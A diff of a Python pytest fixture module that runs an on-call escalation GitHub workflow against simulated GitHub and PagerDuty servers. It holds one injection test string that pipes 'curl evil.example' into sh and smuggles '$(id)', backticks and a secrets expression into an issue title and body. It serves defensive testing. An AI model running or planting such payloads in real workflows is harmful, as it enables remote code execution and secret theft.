@@ -1,7 +1,8 @@
-"""A repository with what is provisioned, GitHub and PagerDuty on loopback, and a runner of the workflows' steps."""
+"""A repository with what is provisioned, GitHub and PagerDuty on loopback, and a runner of its workflow's jobs."""
 
 from __future__ import annotations
 
+import base64
 import json
 import os
 import subprocess
@@ -12,6 +13,7 @@ from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
+import escalate
 import httpx
 import pytest
 import yaml
@@ -19,8 +21,7 @@ from oncall_sandbox import address
 from plugin_host.http import trust
 
 from oncall import load
-from templates import render
-from tests.templates.programs import program
+from templates import pin, render
 from tools.seed import seeded
 
 ROOT = Path(__file__).parents[3]
@@ -28,7 +29,7 @@ WING = ROOT / "tests" / "oncall" / "wing.yaml"
 REPOSITORY = "winglang/wing"
 SERVICE = "https://app.pagerduty.com/service-directory/PUSERS1"
 NOW = datetime(2026, 11, 23, 12, tzinfo=UTC)
-TOKEN = "token-of-the-job"
+TOKEN = "ghs_token_of_the_job"
 PERMISSIONS = {"ada": "admin", "mai": "write", "tri": "read"}
 """What the API says of who may admin, maintain (or write), and triage."""
 NASTY = '"; curl evil.example | sh #\n::error::$(id) ${{ secrets.X }} `id` <!-- on-call 9 --> @everybody'
@@ -51,11 +52,7 @@ def _layered(start: str, turn: int, *people: object) -> str:
 def provisioned(folder: Path) -> Path:
     """A checkout of a repository that has everything of Wing's own operation."""
     operation = load(WING)
-    files = {
-        **render.files(operation, REPOSITORY),
-        render.MEANINGS: render.meanings(operation, SERVICE),
-        render.ON_CALL: render.on_call(operation, NOW),
-    }
+    files = {**render.files(operation, REPOSITORY), render.CALLER: render.caller(operation, SERVICE)}
     for path, content in files.items():
         (folder / path).parent.mkdir(parents=True, exist_ok=True)
         (folder / path).write_text(content, encoding="utf-8")
@@ -79,11 +76,8 @@ UNREADABLE = [
 
 
 def unreadable(world: World, content: str | None) -> None:
-    """Put ``content`` in the place of the repository's data."""
-    path = world.folder / render.ON_CALL
-    path.unlink()
-    if content is not None:
-        path.write_text(content, encoding="utf-8")
+    """Put ``content`` in the place of the data that is published."""
+    world.publish(content)
 
 
 @dataclass
@@ -102,13 +96,14 @@ class World:
         self.folder = folder
         self.url = url
         self.client = httpx.Client(headers={"Authorization": "Bearer a-made-up-token"}, verify=trust(url))
-        self.runs = 0
         self.control("reset")
         repositories = self.control("documents", method="GET")["github/repositories"]
         known = {**repositories[REPOSITORY], "collaborators": PERMISSIONS}
         self.control("put", {"kind": "github/repositories", "id": REPOSITORY, "body": known})
         self.control("clock", {"now": NOW.isoformat()})
         self.key = self._service()
+        home = self.ask("GET", f"api.github.com/repos/{REPOSITORY}")
+        self.repository_id = home["id"]
         self.issue = self.ask(
             "POST", f"api.github.com/repos/{REPOSITORY}/issues", {"title": NASTY, "body": NASTY}
         )
@@ -121,6 +116,17 @@ class World:
         assert answer.is_success, answer.text
         return answer.json()
 
+    def publish(self, content: str | None) -> None:
+        """Who is on call, as the repository has it; None removes it."""
+        where = f"api.github.com/repos/{REPOSITORY}/contents/{render.ON_CALL}"
+        there = self.client.get(f"{self.url}/{where}?ref=main")
+        sha = {"sha": there.json()["sha"]} if there.is_success else {}
+        body = {"message": "Publish", "branch": "main", **sha}
+        if content is None:
+            self.client.request("DELETE", f"{self.url}/{where}", json=body)
+            return
+        self.ask("PUT", where, body | {"content": base64.b64encode(content.encode()).decode()})
+
     def event(
         self, action: str, sender: str = "mai", *, label: str | None = None, kind: str = "User"
     ) -> dict[str, Any]:
@@ -131,34 +137,60 @@ class World:
         if action == "unlabeled":
             labels.remove(str(label))
         state = {"closed": "closed", "reopened": "open"}.get(action, self.issue["state"])
+        before = set(self._history())
         where = f"api.github.com/repos/{REPOSITORY}/issues/1"
         self.issue = self.ask("PATCH", where, {"labels": labels, "state": state})
+        self._act({"login": sender, "type": kind}, before, action)
         return {
             "action": action,
             "issue": {**self.issue, "state_reason": None, "user": {"login": "stranger", "type": "User"}},
-            "repository": {"id": 1, "full_name": REPOSITORY, "default_branch": "main"},
+            "repository": {"id": self.repository_id, "full_name": REPOSITORY, "default_branch": "main"},
             "organization": {"login": "winglang"},
             "sender": {"login": sender, "type": kind},
             **({"label": {"name": label, "color": "b60205", "default": False}} if label else {}),
         }
 
-    def step(self, event: dict[str, Any], workflow: str = "escalate") -> Ran | None:
-        """Run the workflow's own command as the runner does; None where the workflow does not ask for the event."""
-        read: dict[Any, Any] = yaml.safe_load(
-            (self.folder / ".github" / "workflows" / f"{workflow}.yml").read_text(encoding="utf-8")
-        )
-        if event["action"] not in read[True]["issues"]["types"]:
+    def _history(self) -> dict[str, Any]:
+        found: dict[str, Any] = self.control("documents", method="GET").get("github/issue_events", {})
+        return found
+
+    def _act(self, person: dict[str, str], before: set[str], action: str) -> None:
+        """What has just happened to the issue was done by ``person``."""
+        for id_, event in self._history().items():
+            if id_ not in before:
+                body = {**event, "actor": person}
+                self.control("put", {"kind": "github/issue_events", "id": id_, "body": body})
+        if action == "closed":
+            self.issue = {**self.issue, "closed_by": person}
+            key = f"{REPOSITORY}#1"
+            self.control("put", {"kind": "github/issues", "id": key, "body": self.issue})
+
+    def step(self, event: dict[str, Any], job: str = "escalate") -> Ran | None:
+        """Run a job of the workflow as the runner does; None where the workflow does not ask for the event."""
+        caller: dict[Any, Any] = yaml.safe_load((self.folder / render.CALLER).read_text(encoding="utf-8"))
+        if event["action"] not in caller[True]["issues"]["types"]:
             return None
-        (job,) = read["jobs"].values()
-        checkout, step = job["steps"]
-        assert checkout["with"] == {"persist-credentials": False, "sparse-checkout": ".github/on-call"}
-        expressions = {"${{ github.token }}": TOKEN, "${{ secrets.PAGERDUTY_EVENTS_KEY }}": self.key}
+        (step,) = caller["jobs"][job]["steps"]
+        pinned = pin.read()
+        path, _, commit = step["uses"].removeprefix(f"{pinned.repository}/").partition("@")
+        assert commit == pinned.commit
+        action = ROOT / path
+        called: dict[str, Any] = yaml.safe_load((action / "action.yml").read_text(encoding="utf-8"))
+        secrets = {"${{ github.token }}": TOKEN, "${{ secrets.PAGERDUTY_EVENTS_KEY }}": self.key}
+        given = {name: secrets.get(value, value) for name, value in step["with"].items()}
+        given = {
+            name: given[name] if one.get("required") else given.get(name, secrets.get(one.get("default")))
+            for name, one in called["inputs"].items()
+        }
+        (ran,) = called["runs"]["steps"]
+        inputs = {f"${{{{ inputs.{name} }}}}": value for name, value in given.items()}
         environment = self.environment(event) | {
             "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}",
-            **{name: expressions[value] for name, value in step["env"].items()},
+            "GITHUB_ACTION_PATH": str(action),
+            **{name: inputs[value] for name, value in ran["env"].items()},
         }
         done = subprocess.run(
-            ["bash", "--noprofile", "--norc", "-e", "-c", step["run"]],
+            ["bash", "--noprofile", "--norc", "-e", "-c", ran["run"]],
             cwd=self.folder,
             env=environment,
             capture_output=True,
@@ -170,17 +202,23 @@ class World:
 
     def run(self, event: dict[str, Any], capsys: pytest.CaptureFixture[str], **more: str) -> Ran:
         """Run the step's program in this process, where waiting takes no time."""
-        environment = {
-            **self.environment(event), "GITHUB_TOKEN": TOKEN, "PAGERDUTY_EVENTS_KEY": self.key, **more
-        }  # fmt: skip
+        environment = {**self.environment(event), **self.handed(), **more}
         waits: list[float] = []
-        with program(self.folder, "escalate") as escalate:
-            status = escalate.main(environment, NOW, waits.append)
+        status = escalate.main(environment, NOW, waits.append)
         return Ran(status, capsys.readouterr().out, waits)
+
+    def handed(self) -> dict[str, str]:
+        """What the actions hand over to their programs."""
+        operation = load(WING)
+        return {
+            "GITHUB_TOKEN": TOKEN,
+            "PAGERDUTY_EVENTS_KEY": self.key,
+            "ON_CALL_MEANINGS": json.dumps(render.meanings(operation, SERVICE)),
+            "ON_CALL_PUBLISHED": render.published(operation),
+        }
 
     def environment(self, event: dict[str, Any]) -> dict[str, str]:
         """What the runner tells every step."""
-        self.runs += 1
         path = self.folder / "event.json"
         path.write_text(json.dumps(event), encoding="utf-8")
         return {
@@ -188,7 +226,6 @@ class World:
             "GITHUB_API_URL": f"{self.url}/api.github.com",
             "GITHUB_REPOSITORY": REPOSITORY,
             "GITHUB_REF_NAME": "main",
-            "GITHUB_RUN_ID": str(self.runs),
             "PAGERDUTY_EVENTS_URL": f"{self.url}/events.pagerduty.com",
         }
 
@@ -252,7 +289,14 @@ def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
 
 
 @pytest.fixture
-def world(server: str, tmp_path: Path) -> Iterator[World]:
+def unpublished(server: str, tmp_path: Path) -> Iterator[World]:
+    """Where nobody has published who is on call."""
     made = World(provisioned(tmp_path), server)
     yield made
     made.client.close()
+
+
+@pytest.fixture
+def world(unpublished: World) -> World:
+    unpublished.publish(render.on_call(load(WING), NOW))
+    return unpublished
